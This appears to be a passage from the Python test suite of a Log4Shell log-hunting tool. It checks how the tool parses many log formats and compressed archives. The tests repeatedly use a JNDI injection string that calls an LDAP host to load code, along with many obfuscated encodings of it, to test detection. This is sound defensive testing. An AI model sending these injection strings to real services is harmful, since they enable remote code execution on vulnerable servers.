"""hikeshi hunt: logs made here in every format and packing, and the labelled texts where they exist."""
import base64, bz2, csv, gzip, io, json, lzma, os, random, re, resource, shutil, signal, stat, subprocess, sys
import tarfile, tempfile, threading, time, unittest, urllib.parse, zipfile

BUILD = os.environ.get("HIKESHI_BUILD", "build")
TOOL = os.path.join(BUILD, "hikeshi")
HERE = os.path.dirname(os.path.abspath(__file__))
SAMPLES = os.path.join(HERE, "../../../shared/data/lookups")
MEMORY = 64 * 1024  # KiB
PAYLOAD = "${jndi:ldap://203.0.113.9:1389/a}"
with open(TOOL, "rb") as tool:
    SANITIZED = b"__asan_init" in tool.read()


def read_text(path):
    with open(path, encoding="utf-8", newline="") as f:
        return f.read()


def env_of(extra=None):
    e = {k: v for k, v in os.environ.items() if k not in ("COLUMNS", "NO_COLOR", "LANG", "LC_ALL", "TZ")}
    e.update({"LANG": "C.UTF-8", "TZ": "Asia/Tokyo"})
    e.update(extra or {})
    return e


def run(*args, env=None, **how):
    return subprocess.run([TOOL, "hunt", *args], capture_output=True, timeout=120, env=env_of(env), **how)


def hunt(*args, **how):
    r = run("--format", "jsonl", *args, **how)
    rows = [json.loads(x) for x in r.stdout.splitlines()]
    return r.returncode, rows[:-1], rows[-1]["summary"] if rows else None


def access(payload="", client="198.51.100.23", at="13/Dec/2021:22:40:03 +0900", path="/index.html", ref="-"):
    return '%s - - [%s] "GET %s HTTP/1.1" 200 512 "%s" "Mozilla/5.0 %s"\n' % (client, at, path, ref, payload)


class Case(unittest.TestCase):
    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory()
        self.dir = self.tmp.name

    def tearDown(self):
        self.tmp.cleanup()

    def put(self, name, data):
        path = os.path.join(self.dir, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as f:
            f.write(data if isinstance(data, bytes) else data.encode())
        return path

    def one(self, text, **want):
        """The one sighting in this line, which must say what is wanted."""
        code, rows, summary = hunt(self.put("x.log", text))
        self.assertEqual((code, len(rows)), (0, 1), (rows, summary))
        for key, value in want.items():
            self.assertEqual(rows[0][key], value, rows[0])
        return rows[0]

    def limited(self, path, *args, stdin=None):
        """Runs it below a small process, for a child is charged with what its parent held."""
        code = ("import resource, subprocess, sys; subprocess.run(sys.argv[1:]); "
                "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)")
        r = subprocess.run([sys.executable, "-S", "-c", code, TOOL, "hunt", "--format", "jsonl", *args, path],
                           capture_output=True, env=env_of(), stdin=stdin, timeout=120)
        if not SANITIZED:
            self.assertLess(int(r.stderr.split()[-1]), MEMORY)
        rows = [json.loads(x) for x in r.stdout.splitlines()]
        return rows[:-1], rows[-1]["summary"]


class Verdicts(Case):
    def test_what_is_told(self):
        row = self.one(access(PAYLOAD), verdict="reaches", resolves_to="ldap://203.0.113.9:1389/a",
                       client="198.51.100.23", field="User-Agent", time="2021-12-13T13:40:03.000Z", line=1,
                       format="combined", decoded=[])
        self.assertEqual(row["callback"], {"scheme": "ldap", "host": "203.0.113.9", "port": 1389, "path": "/a"})
        self.assertIn(PAYLOAD, row["text"])

    def test_chain_and_field(self):
        q = urllib.parse.quote(urllib.parse.quote(PAYLOAD, safe=""), safe="")
        self.one(access(path="/s?a=1&q=" + q), decoded=["url", "url"], field="query q", verdict="reaches")
        b = base64.b64encode(PAYLOAD.encode()).decode()
        self.one(access(ref="https://h/?t=" + b), decoded=["base64"], field="Referer")
        self.one(access(path="/" + PAYLOAD), field="path")

    def test_slashes_that_json_escapes(self):
        row = self.one('{"q": "${jndi:ldap:\\/\\/203.0.113.9:1389\\/a}"}', resolves_to="ldap://203.0.113.9:1389/a")
        self.assertEqual(row["callback"]["host"], "203.0.113.9")

    def test_field_of_the_worse_of_two(self):
        self.one(access(PAYLOAD, path="/?tpl=${name}"), field="User-Agent", verdict="reaches")

    def test_cut_and_inert(self):
        self.one(access()[:-3] + " ${jndi:dns://x1.probe.example", verdict="if-closed")
        self.one("a ${ jndi:ldap://203.0.113.9/a} b\n", verdict="attempt", reason="inert", resolves_to=None)

    def test_least(self):
        path = self.put("x", "${ jndi:ldap://h/a}\n${jndi:ldap://h/a\n" + PAYLOAD + "\n")
        self.assertEqual(run("-c", path).stdout, b"3\n")
        self.assertEqual(run("-c", "--least", "if-closed", path).stdout, b"2\n")
        self.assertEqual(run("-c", "--least", "reaches", path).stdout, b"1\n")

    def test_exit_codes(self):
        clean = self.put("clean.log", access() * 10)
        self.assertEqual(run(clean).returncode, 1)
        self.assertEqual(run(self.put("bad.log", PAYLOAD)).returncode, 0)
        for args in (["--format", "xml", clean], ["--since", "yesterdy", clean], ["--jobs", "0", clean],
                     ["--ioc", "evil.example", clean], ["--nonsense", clean],
                     [os.path.join(self.dir, "not there")]):
            r = run(*args)
            self.assertEqual(r.returncode, 2, args)
        cut = self.put("cut.gz", gzip.compress(access().encode() * 1000)[:-20])
        self.assertEqual(run(cut).returncode, 2)

    def test_since_and_until(self):
        path = self.put("x", "".join(access(PAYLOAD, at="%02d/Dec/2021:12:00:00 +0900" % d) for d in range(10, 20)))
        for args, n in ((["--since", "2021-12-15"], 5), (["--until", "2021-12-15"], 5),
                        (["--since", "2021-12-15T12:00"], 5), (["--since", "2021-12-15T12:00:01+09:00"], 4),
                        (["--since", "2021-12-12", "--until", "2021-12-13T00:00:00Z"], 1), (["--since", "1d"], 0)):
            r = run("-c", *args, path)
            self.assertEqual(r.stdout, b"%d\n" % n, args)

    def test_sums(self):
        text = "".join(access("${jndi:ldap://h%d.example/a}" % (i % 3), client="192.0.2.%d" % (i % 2)) for i in range(9))
        _, rows, s = hunt(self.put("x", text))
        self.assertEqual(s["clients"], {"192.0.2.0": 5, "192.0.2.1": 4})
        self.assertEqual(s["callbacks"], {"h0.example": 3, "h1.example": 3, "h2.example": 3})
        self.assertEqual(s["days"], {"2021-12-13": 9})
        self.assertEqual(s["verdicts"]["reaches"], 9)
        self.assertEqual((s["from"], s["to"]), ("2021-12-13T13:40:03.000Z",) * 2)


DECODERS = [  # how it is written, the decoders that are named
    (urllib.parse.quote(PAYLOAD, safe=""), ["url"]),
    ("%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%3A1389%2Fa%7D+and+more", ["url"]),
    ("".join("%%u%04x" % ord(c) for c in PAYLOAD), ["url"]),
    (urllib.parse.quote(urllib.parse.quote(PAYLOAD, safe=""), safe=""), ["url", "url"]),
    ("".join("\\u%04x" % ord(c) for c in PAYLOAD), ["backslash"]),
    ("".join("\\x%02x" % ord(c) for c in PAYLOAD), ["backslash"]),
    ("".join("\\%03o" % ord(c) for c in PAYLOAD), ["backslash"]),
    ("".join("&#%d;" % ord(c) for c in PAYLOAD), ["entity"]),
    ("".join("&#x%x" % ord(c) for c in PAYLOAD), ["entity"]),
    ("&dollar&lbracejndi&colonldap://203.0.113.9&colon1389/a&rbrace", ["entity"]),
    ("$\\{jndi:ldap:\\/\\/203.0.113.9:1389\\/a\\}", ["backslash"]),
    *((base64.b64encode(b"xyz"[:n] + PAYLOAD.encode()).decode(), ["base64"]) for n in range(4)),
    *((base64.urlsafe_b64encode(b"?>?"[:n] + PAYLOAD.encode()).decode().rstrip("="), ["base64"]) for n in range(4)),
    *((base64.b64encode(b"xyz"[:n] + gzip.compress(PAYLOAD.encode())).decode(), ["base64"]) for n in range(4)),
    *((base64.urlsafe_b64encode(b"xyz"[:n] + gzip.compress(PAYLOAD.encode())).decode(), ["base64"]) for n in range(4)),
    (base64.b64encode(urllib.parse.quote(PAYLOAD, safe="").encode()).decode(), ["base64", "url"]),
    (urllib.parse.quote(base64.b64encode(b"ab" + PAYLOAD.encode()).decode(), safe=""), ["base64"]),
    *((PAYLOAD.encode(form).decode(), []) for form in ("utf-16-le", "utf-16-be")),  # the log is in it, not the line
    *(("GET / HTTP/1.1 " * 20 + PAYLOAD.encode(form).decode(), ["utf-16"]) for form in ("utf-16-le", "utf-16-be")),
]


class Decoders(Case):
    def test_alone(self):
        for text, chain in DECODERS:
            for line in (text, access(path="/?q=" + text), access(text), json.dumps({"q": "-"})[:-2] + text + '"}'):
                row = self.one(line, verdict="reaches", resolves_to="ldap://203.0.113.9:1389/a")
                if line is text:
                    self.assertEqual(row["decoded"], chain, text)

    def test_a_plus_is_a_space_in_a_form(self):
        self.one(access(path="/s?q=%24%7Bjndi:ldap://h/a+b%2Bc%7D"), resolves_to="ldap://h/a b+c")
        self.one(access(path="/%24%7Bjndi:ldap://h/a+b%2Bc%7D"), resolves_to="ldap://h/a+b+c")


FORMATS = [  # line, format, time (UTC) or None, client or None, field
    (access(PAYLOAD), "combined", "2021-12-13T13:40:03.000Z", "198.51.100.23", "User-Agent"),
    ("www.h.example:443 198.51.100.23 - u [13/Dec/2021:22:40:03 +0900] \"GET /?a=" + PAYLOAD + " HTTP/1.1\" 200 5 \"-\" \"c\"",
     "combined", "2021-12-13T13:40:03.000Z", "198.51.100.23", "query a"),
    ("2021/12/13 22:40:03 [error] 7#7: *1 open() \"/x\" failed, client: 192.0.2.8, server: s, request: \"GET /" + PAYLOAD +
     " HTTP/1.1\", host: \"h\"", "error", "2021-12-13T13:40:03.000Z", "192.0.2.8", "request"),
    ("[Mon Dec 13 22:40:03.123456 2021] [core:error] [pid 7:tid 9] [client 192.0.2.8:5123] AH1: " + PAYLOAD,
     "error", "2021-12-13T13:40:03.123Z", "192.0.2.8", "message"),
    (json.dumps({"@timestamp": "2021-12-13T13:40:03.5Z", "source": {"ip": "192.0.2.8"}, "user_agent": {"original": PAYLOAD}}),
     "json", "2021-12-13T13:40:03.500Z", "192.0.2.8", "original"),
    (json.dumps({"ts": 1639402803.25, "remote_addr": "192.0.2.8", "request": PAYLOAD}), "json",
     "2021-12-13T13:40:03.250Z", "192.0.2.8", "request"),
    ("<34>1 2021-12-13T13:40:03.1Z host app 7 ID [x@1 a=\"b]\"] " + PAYLOAD, "syslog", "2021-12-13T13:40:03.100Z", None, "message"),
    ("<34>Dec 13 22:40:03 host app[7]: " + PAYLOAD, "syslog", "2021-12-13T13:40:03.000Z", None, "message"),
    ("Dec 13 22:40:04 host nginx: " + access(PAYLOAD).strip(), "syslog", "2021-12-13T13:40:03.000Z", "198.51.100.23", "User-Agent"),
    ("#Software: x\n#Fields: date time c-ip cs-method cs-uri-stem cs-uri-query cs(User-Agent)\n"
     "2021-12-13 13:40:03 192.0.2.8 GET /a q=" + PAYLOAD + " Mozilla/5.0", "w3c", "2021-12-13T13:40:03.000Z", "192.0.2.8",
     "cs-uri-query"),
    ("2021-12-13\t13:40:03\tNRT1\t5\t192.0.2.8\tGET\td.example\t/\t200\t-\t" + PAYLOAD + "\t-\t-", "w3c",
     "2021-12-13T13:40:03.000Z", "192.0.2.8", "cs(User-Agent)"),
    ("2021-12-13 22:40:03,123 [http-1] ERROR c.e.App [ip=192.0.2.8] - bad " + PAYLOAD, "java",
     "2021-12-13T13:40:03.123Z", "192.0.2.8", "message"),
    ("22:40:03.123 [main] INFO  c.e.App - " + PAYLOAD, "java", None, None, "message"),
    ("h2 2021-12-13T13:40:03.1Z app/b/1 192.0.2.8:2817 10.0.0.1:80 0.0 0.0 0.0 200 200 34 366 \"GET https://h:443/?q=" + PAYLOAD +
     " HTTP/2.0\" \"curl\" - - arn", "alb", "2021-12-13T13:40:03.100Z", "192.0.2.8", "query q"),
    ("Dec 13 22:40:03 lb haproxy[7]: 192.0.2.8:33317 [13/Dec/2021:22:40:03.655] in static/s 1/0/3/6/10 200 2 - - ---- "
     "1/1/1/1/0 0/0 {" + PAYLOAD + "} \"GET / HTTP/1.1\"", "haproxy", "2021-12-13T13:40:03.655Z", "192.0.2.8", "captured headers"),
    ("whatever this is: " + PAYLOAD, None, None, None, None),
]


class Formats(Case):
    def test_formats(self):
        for line, fmt, when, client, field in FORMATS:
            path = self.put("x.log", line + "\n")
            os.utime(path, (1639500000, 1639500000))
            _, rows, _ = hunt(path)
            self.assertEqual(len(rows), 1, line)
            got = rows[0]
            self.assertEqual((got["format"], got["time"], got["client"], got["field"]), (fmt, when, client, field), line)

    def test_a_year_is_the_one_before_the_file_was_written(self):
        path = self.put("x.log", "Dec 31 23:00:00 h a: " + PAYLOAD + "\nJan  1 01:00:00 h a: " + PAYLOAD + "\n")
        os.utime(path, (1640966400 + 7200, 1640966400 + 7200))  # 2022-01-01 02:00 JST
        _, rows, _ = hunt(path)
        self.assertEqual([r["time"][:4] for r in rows], ["2021", "2021"])
        self.assertEqual(rows[1]["time"], "2021-12-31T16:00:00.000Z")

    def test_columns_that_change(self):
        """Each line of a W3C log has the columns of the #Fields: line before it, wherever it lies."""
        a = "#Software: IIS\r\n#Date: 2021-12-13 00:00:00\r\n#Fields: time c-ip cs-uri-query\r\n"
        b = "#Software: IIS\r\n#Date: 2021-12-14 00:00:00\r\n#Fields: cs-uri-query s-ip c-ip time\r\n"
        rows_a = "13:40:03 192.0.2.1 -\r\n" * 400000 + "13:40:04 192.0.2.2 q=%s\r\n" % PAYLOAD
        rows_b = "q=%s 10.0.0.9 192.0.2.3 00:00:05\r\n" % PAYLOAD + "- 10.0.0.9 192.0.2.1 00:00:06\r\n" * 400000
        text = (a + rows_a + b + rows_b + a + rows_a + b + rows_b).encode()
        want = [("192.0.2.2", "2021-12-13T13:40:04.000Z"), ("192.0.2.3", "2021-12-14T00:00:05.000Z")] * 2
        for path in (self.put("u_ex.log", text), self.put("u_ex.gz", gzip.compress(text, 1)), "-"):
            for jobs in ("1", "4"):
                _, rows, s = hunt("--jobs", jobs, path, **({"input": text} if path == "-" else {}))
                self.assertEqual([(r["client"], r["time"]) for r in rows], want, path)
                self.assertEqual((s["from"], s["to"]), ("2021-12-13T13:40:03.000Z", "2021-12-14T00:00:06.000Z"))

    def test_who_a_proxy_names(self):
        for peer, forwarded, want in (("10.0.0.5", "203.0.113.7", "203.0.113.7"), ("10.0.0.5", "6.6.6.6, 203.0.113.7, 10.1.1.1", "203.0.113.7"),
                                      ("10.0.0.5", "-", "10.0.0.5"), ("10.0.0.5", PAYLOAD, "10.0.0.5"), ("fd00::1", "2001:db8::5", "2001:db8::5"),
                                      ("198.51.100.1", "6.6.6.6", "198.51.100.1")):
            self.one(access(PAYLOAD, client=peer).rstrip() + ' "%s"' % forwarded, client=want)
            self.one(json.dumps({"remote_addr": peer, "ua": PAYLOAD, "x_forwarded_for": forwarded}), client=want)

    def test_new_year_and_leap_day(self):
        days = ["Dec 30 10:00:00", "Dec 31 23:59:59", "Jan  1 00:00:00", "Jan  1 09:00:00"]
        path = self.put("messages", "".join("%s h a[1]: %s\n" % (d, PAYLOAD) for d in days))
        os.utime(path, (1641000000, 1641000000))  # 2022-01-01 10:20 JST
        _, rows, _ = hunt(path)
        self.assertEqual([r["time"] for r in rows], ["2021-12-30T01:00:00.000Z", "2021-12-31T14:59:59.000Z",
                                                     "2021-12-31T15:00:00.000Z", "2022-01-01T00:00:00.000Z"])
        path = self.put("messages", "Feb 29 12:00:00 h a[1]: %s\n" % PAYLOAD)
        os.utime(path, (1646100000, 1646100000))  # March of 2022: the leap day of 2020
        self.assertEqual(hunt(path)[1][0]["time"], "2020-02-29T03:00:00.000Z")

    def test_words_that_begin_like_a_zone(self):
        for word, utc in (("Zeus", "09:12:33"), ("ESTABLISHED", "09:12:33"), ("Z", "18:12:33"), ("EST", "23:12:33")):
            self.one("2021-12-10 18:12:33 %s INFO ${jndi:ldap://h/a}\n" % word, time="2021-12-10T%s.000Z" % utc)

    def test_nothing_lies_between(self):
        path = self.put("x.log", access(PAYLOAD))
        for since, until in (("2021-12-14", "2021-12-13"), ("2021-12-14", "2021-12-14")):
            r = run("--since", since, "--until", until, path)
            self.assertEqual((r.returncode, r.stdout), (2, b""))
            self.assertIn(b"--until", r.stderr)

    def test_since_and_until_to_the_millisecond(self):
        path = self.put("x", "".join(json.dumps({"ts": t, "m": PAYLOAD}) + "\n" for t in ("2021-12-13T00:00:00.%03dZ" % n for n in range(5))))
        for args, lines in ((["--since", "2021-12-13T00:00:00.002Z"], [3, 4, 5]), (["--until", "2021-12-13T00:00:00.002Z"], [1, 2]),
                            (["--since", "2021-12-13T00:00:00.001Z", "--until", "2021-12-13T00:00:00.004Z"], [2, 3, 4]),
                            (["--since", "2021-12-13T09:00:00+09:00", "--until", "2021-12-13T09:00:00.001+09:00"], [1])):
            self.assertEqual([r["line"] for r in hunt(*args, path)[1]], lines, args)

    def test_any_bytes_and_any_cut(self):
        line = FORMATS[4][0].encode()
        for cut in range(len(line)):
            self.put("d/%d.log" % cut, line[:cut])
        bad = self.put("d/bad.log", b"\xff\xfe\x00 " + access(PAYLOAD).encode() + b"\x80\x81\n" + PAYLOAD.encode())
        code, rows, s = hunt(os.path.join(self.dir, "d"))
        self.assertEqual([r["line"] for r in rows if r["file"] == bad], [1, 3])
        self.assertEqual(s["incomplete_count"], 0)
        self.assertEqual(s["files"], len(line) + 1)


class Packing(Case):
    TEXT = (access() * 700 + access(PAYLOAD) + access() * 700).encode()

    def zst(self, data):
        return subprocess.run(["zstd", "-q", "-c"], input=data, capture_output=True, check=True).stdout

    def tar(self, files, mode="w"):
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode=mode, format=tarfile.PAX_FORMAT) as t:
            for name, data in files:
                info = tarfile.TarInfo(name)
                info.size = len(data)
                t.addfile(info, io.BytesIO(data))
        return out.getvalue()

    def zip(self, files, how=zipfile.ZIP_DEFLATED):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", how) as z:
            for name, data in files:
                z.writestr(name, data)
        return out.getvalue()

    def packed(self):
        t = self.TEXT
        long = "deep/" * 40 + "a.log"
        yield "a.gz", gzip.compress(t), ""
        yield "two.gz", gzip.compress(t[:30000]) + gzip.compress(t[30000:]), ""
        yield "a.bz2", bz2.compress(t), ""
        yield "a.xz", lzma.compress(t), ""
        yield "a.zst", self.zst(t), ""
        yield "a.tar", self.tar([("x/a.log", t)]), "!/x/a.log"
        yield "long.tar", self.tar([(long, t)]), "!/" + long
        yield "a.tgz", self.tar([("b.log", b""), ("a.log.xz", lzma.compress(t))], "w:gz"), "!/a.log.xz"
        yield "a.zip", self.zip([("a.log", t)]), "!/a.log"
        yield "s.zip", self.zip([("a.log.gz", gzip.compress(t))], zipfile.ZIP_STORED), "!/a.log.gz"
        yield "z.tgz", self.tar([("q.zip", self.zip([("a.log", t)]))], "w:gz"), "!/q.zip!/a.log"
        yield "zz.zip", self.zip([("q.zip", self.zip([("a.log", t)]))]), "!/q.zip!/a.log"
        yield "t.zip", self.zip([("a.tar", self.tar([("q", t)]))]), "!/a.tar!/q"

    def test_every_packing(self):
        for name, data, inner in self.packed():
            path = self.put(name.replace(".", "-"), data)  # by content, not by name
            code, rows, s = hunt(path)
            self.assertEqual([(r["file"], r["line"]) for r in rows], [(path + inner, 701)], name)
            self.assertEqual((s["lines"], s["incomplete_count"]), (1401, 0), name)
            with open(path, "rb") as f:
                code, rows, s = hunt("-", stdin=f)
            self.assertEqual([(r["file"], r["line"]) for r in rows], [("-" + inner, 701)], name)
            code, rows, s = hunt("-", input=data)  # a pipe
            self.assertEqual([(r["file"], r["line"]) for r in rows], [("-" + inner, 701)], name)
            self.assertEqual(s["incomplete_count"], 0, name)

    def test_no_room_for_a_zip_in_a_pipe(self):
        data = self.zip([("a.log", self.TEXT)])
        r = subprocess.run(["bash", "-c", 'ulimit -f 0; trap "" XFSZ; exec "$@"', "-", TOOL, "hunt", "--format", "jsonl", "-"],
                           input=data, capture_output=True, env=env_of(), timeout=60)
        s = json.loads(r.stdout.splitlines()[-1])["summary"]
        self.assertEqual((r.returncode, s["incomplete_count"]), (2, 1))
        self.assertIn("no room for it in a temporary file", s["incomplete"][0]["reason"])
        self.assertEqual(os.listdir(self.dir), [])

    def test_utf16_and_utf32(self):
        for encoding in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"):
            for mark in ("\ufeff", ""):
                text = mark + access() * 90 + access(path="/?q=%24%7Bjndi:ldap://h/%E6%97%A5%7D") + access("日本")
                for how in ("{}", "-"):
                    path = self.put("w.log", text.encode(encoding))
                    code, rows, s = hunt(how.format(path), input=text.encode(encoding))
                    self.assertEqual([(r["line"], r["client"], r["field"], r["time"]) for r in rows],
                                     [(91, "198.51.100.23", "query q", "2021-12-13T13:40:03.000Z")], (encoding, mark, how))
                    self.assertEqual((s["lines"], s["from"]), (92, "2021-12-13T13:40:03.000Z"))

    def test_cut_is_told_and_what_is_there_is_searched(self):
        noise = random.Random(5).randbytes(60000).hex().encode()
        text = access(PAYLOAD).encode() + noise
        for name, data in (("gz", gzip.compress(text)), ("bz2", bz2.compress(text, 1)), ("xz", lzma.compress(text)),
                           ("zst", self.zst(text)), ("tar", self.tar([("a", text)])), ("zip", self.zip([("a", text)])),
                           ("tgz", self.tar([("a", text)], "w:gz"))):
            for n in (len(data) // 2, len(data) - 1) if name != "tar" else (len(data) // 2,):
                code, rows, s = hunt(self.put("cut", data[:n]))
                self.assertEqual(s["incomplete_count"], 1, (name, n, s))
                if name not in ("bz2", "zip", "xz", "zst"):
                    self.assertEqual(len(rows), 1, (name, n))

    def test_damage(self):
        data = bytearray(self.zip([("a.log", self.TEXT), ("b.log", self.TEXT)], zipfile.ZIP_STORED))
        data[2000] ^= 1
        code, rows, s = hunt(self.put("x.zip", bytes(data)))
        self.assertEqual((len(rows), s["incomplete_count"]), (2, 1))
        self.assertIn("checksum", s["incomplete"][0]["reason"])

    def test_a_zip_bomb_of_layers(self):
        data = PAYLOAD.encode()
        for _ in range(20):
            data = gzip.compress(data)
        code, rows, s = hunt(self.put("deep.gz", data))
        self.assertEqual((code, s["incomplete_count"]), (2, 1))


class Size(Case):
    def test_a_line_of_100_mb(self):
        middle = b"x" * (50 << 20)
        text = b"first\n" + middle + access(PAYLOAD).encode().strip() + middle + PAYLOAD.encode() + b"\n" + PAYLOAD.encode() + b"\n"
        path = self.put("x", text)
        for _ in ("file", "pipe"):
            if _ == "file":
                rows, s = self.limited(path)
            else:
                with open(path, "rb") as f:
                    cat = subprocess.Popen(["cat"], stdin=f, stdout=subprocess.PIPE)
                    rows, s = self.limited("-", stdin=cat.stdout)
                    cat.stdout.close()
                    cat.wait()
            self.assertEqual([r["line"] for r in rows], [2, 3], _)
            self.assertEqual(s["lines"], 3)

    def test_parts_of_a_big_file(self):
        """Split at 8 MiB: every line counted once, wherever it lies, and in order."""
        rng = random.Random(1)
        lines, want, size = [], [], 0
        while size < 140 << 20:
            hit = rng.random() < 0.0005
            n = rng.randrange(20, 2000) if rng.random() < 0.9999 else rng.randrange(1 << 20)
            line = b"y" * n + (PAYLOAD.encode() if hit else b"")
            lines.append(line)
            if hit:
                want.append(len(lines))
            size += len(line) + 1
        path = self.put("big", b"\n".join(lines) + b"\n")
        for jobs in ("1", "2", "7"):
            rows, s = self.limited(path, "--jobs", jobs)
            self.assertEqual([r["line"] for r in rows], want, jobs)
            self.assertEqual(s["lines"], len(lines), jobs)
            self.assertEqual(s["bytes"], size, jobs)

    def test_every_line_a_sighting(self):
        path = self.put("x", access(PAYLOAD) * 400000)
        rows, s = self.limited(path, "--jobs", "4")
        self.assertEqual([r["line"] for r in rows], list(range(1, 400001)))

    def test_many_files_in_order(self):
        for i in range(300):
            self.put("logs/%03d.log" % i, access() * (2000 if i % 50 == 0 else 1) + access(PAYLOAD))
        rows, s = self.limited(os.path.join(self.dir, "logs"), "--jobs", "3")
        self.assertEqual([os.path.basename(r["file"]) for r in rows], ["%03d.log" % i for i in range(300)])

    def test_packed_in_packed_by_every_thread(self):
        """Windows of all threads together are bounded; what is found does not depend on who waits."""
        rnd = random.Random(3)
        text = access(PAYLOAD).encode() + b"\n".join(rnd.randbytes(64).hex().encode() for _ in range(200000))
        pack = lambda data: subprocess.run(["zstd", "-q", "-c", "-1", "--long=23"], input=data, capture_output=True, check=True).stdout
        data = pack(pack(text + b"\n" + rnd.randbytes(10000000)))
        for i in range(6):
            self.put("many/%d.zst.zst" % i, data)
        rows, s = self.limited(os.path.join(self.dir, "many"), "--jobs", "4")
        self.assertEqual(([r["line"] for r in rows], s["incomplete_count"]), ([1] * 6, 0))

    def test_interrupted(self):
        """It ends at once, tells what was found, and calls nothing clean."""
        for text, code in (("nothing", 2), (PAYLOAD, 0)):
            for fmt in ("table", "jsonl"):
                yes = subprocess.Popen(["yes", "x"], stdout=subprocess.PIPE)
                first = self.put("a.log", text + "\n")
                p = subprocess.Popen([TOOL, "hunt", "--format", fmt, first, "-"], stdin=yes.stdout, stdout=subprocess.PIPE, env=env_of())
                yes.stdout.close()
                time.sleep(0.7)
                p.send_signal(signal.SIGTERM)
                try:
                    out = p.communicate(timeout=20)[0]
                finally:
                    p.kill()
                    yes.kill()
                    yes.wait()
                self.assertEqual(p.returncode, code)
                self.assertIn(b"interrupted", out)
                self.assertNotIn(b"NOTHING FOUND", out)
                self.assertEqual(b"203.0.113.9" in out, code == 0)

    def test_hostile_lines_are_not_slow(self):
        for unit in (b"\\u00", b"%25", b"${", b"&amp;", b"JHtJ", b"%5cu0025"):
            path = self.put("x", unit * ((8 << 20) // len(unit)))
            t0 = time.monotonic()
            self.limited(path)
            self.assertLess(time.monotonic() - t0, 20 if SANITIZED else 4, unit)

    def test_truncated_while_it_is_read(self):
        path = self.put("x", access().encode() * 2000000)
        for _ in range(3):
            p = subprocess.Popen([TOOL, "hunt", "-c", path], stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env_of())
            time.sleep(0.01)
            os.truncate(path, 1000)
            p.communicate()
            self.assertIn(p.returncode, (1, 2))  # read before, or became shorter; never killed by SIGBUS
            with open(path, "ab") as f:
                f.write(access().encode() * 2000000)


class Limits(Case):
    """At one below, at and one above; what is not told in full is said."""

    def test_line(self):
        for n, verdict in ((65535, "reaches"), (65536, "reaches"), (65537, "if-closed")):
            head = "${jndi:ldap://h.example/"
            row = self.one(head + "x" * (n - len(head) - 1) + "}", verdict=verdict)
            self.assertEqual(row["callback"]["host"], "h.example")
            row = self.one("x" * (n - len(PAYLOAD)) + PAYLOAD, verdict="reaches", resolves_to="ldap://203.0.113.9:1389/a")

    def test_text_of_a_sighting(self):
        for n in (4095, 4096, 4097):
            row = self.one("x" * (n - len(PAYLOAD)) + PAYLOAD, verdict="reaches")
            self.assertEqual(len(row["text"]), min(n, 4096) if n <= 4096 else len(row["text"]))
            self.assertLessEqual(len(row["text"]), 4096)
            self.assertIn(PAYLOAD, row["text"])

    def test_names_that_are_counted(self):
        for n in (19999, 20000, 20001):
            text = "".join(access("${jndi:ldap://h%d.example/}" % i) for i in range(n))
            _, rows, s = hunt("-", input=text.encode())
            self.assertEqual((len(rows), len(s["callbacks"]), s["not_named"]), (n, min(n, 20000), max(n - 20000, 0)))

    def test_call_backs_that_are_looked_for(self):
        out = self.put("out.log", OUTBOUND["squid"])
        for n in (19999, 20000, 20001):
            text = "".join(access("${jndi:ldap://h%d.example/}" % i) for i in range(n))
            _, rows, s = hunt("--outbound", out, "-", input=text.encode())
            self.assertEqual((len(rows), s["incomplete_count"]), (n, n > 20000))
        self.assertIn("1 call-backs or indicators were not looked for", s["incomplete"][0]["reason"])

    def test_events_of_a_call_back(self):
        """However often somebody went there before, the one behind the attempt counts."""
        path = self.put("a.log", access(PAYLOAD))
        clean = self.put("clean.log", access())
        before = OUTBOUND["squid"].replace("1639402806", "1639302806")
        blocked = before.replace("TCP_TUNNEL/200", "TCP_DENIED/403")
        for n in (31, 32, 33, 500):
            for log in (before * n + OUTBOUND["squid"], (before + blocked) * n + OUTBOUND["squid"] + before, OUTBOUND["squid"] + blocked * n):
                out = self.put("out.log", log)
                _, rows, s = hunt("--outbound", out, path)
                self.assertEqual((rows[0]["verdict"], s["incomplete_count"]), ("called-back", 0), n)
                self.assertIn("2021-12-13T22:40:06", rows[0]["answer"])
            _, rows, s = hunt("--outbound", self.put("out.log", before * n), path)
            self.assertEqual(rows[0]["verdict"], "reaches")
            _, rows, s = hunt("--outbound", self.put("out.log", before * n), "--ioc", "203.0.113.9", clean)
            self.assertEqual((len(rows), s["incomplete_count"]), (min(n, 32), n > 32))
            if n > 32:
                self.assertEqual(s["incomplete"], [{"path": "203.0.113.9", "reason": "%d more went there than are shown" % (n - 32)}])

    def test_events_of_all_call_backs(self):
        """100,000 are kept of all together: what is behind the attempts is found all the same."""
        n = 20000
        path = self.put("a.log", "".join(access("${jndi:ldap://h%d.example/}" % i) for i in range(n)))
        def asked(day, at):
            return "".join("Dec %d 22:%02d:06 ns dnsmasq[7]: query[A] h%d.example from 2001:db8:1111:2222:3333:4444:5555:6666\n"
                           % (day, at, i) for i in range(n))
        out = self.put("out.log", "".join(asked(11, at) for at in range(10)) + asked(13, 50))
        rows, s = self.limited(path, "--outbound", out)
        self.assertEqual((s["callbacks_answered"], s["incomplete_count"]), (n, 0))
        self.assertTrue(all(r["answer"].endswith("from 2001:db8:1111:2222:3333:4444:5555:6666") for r in rows))

    def test_long_names(self):
        """What can be no host's name takes no place among those that are counted, however much there is of it."""
        out = self.put("out.log", OUTBOUND["squid"])
        many = lambda n, k: "".join(access("${jndi:ldap://%06d%s/}" % (i, "x" * (k - 6))) for i in range(n))
        for k in (254, 255, 256, 3900):
            rows, s = self.limited(self.put("a.log", many(9000, k) + access(PAYLOAD)), "--outbound", out)
            self.assertEqual((len(rows), s["incomplete_count"]), (9001, 1), k)
            named = 0 if k > 255 else 2 * 1024 * 1024 // k
            self.assertEqual((len(s["callbacks"]), s["callbacks_answered"]), (named + 1, 1), k)  # the last one is short enough
            self.assertEqual(s["not_named"], 9001 - len(s["callbacks"]))
        text = many(5000, 200).replace("x", "\x01").replace("inde\x01", "index")
        rows, s = self.limited(self.put("a.log", text))
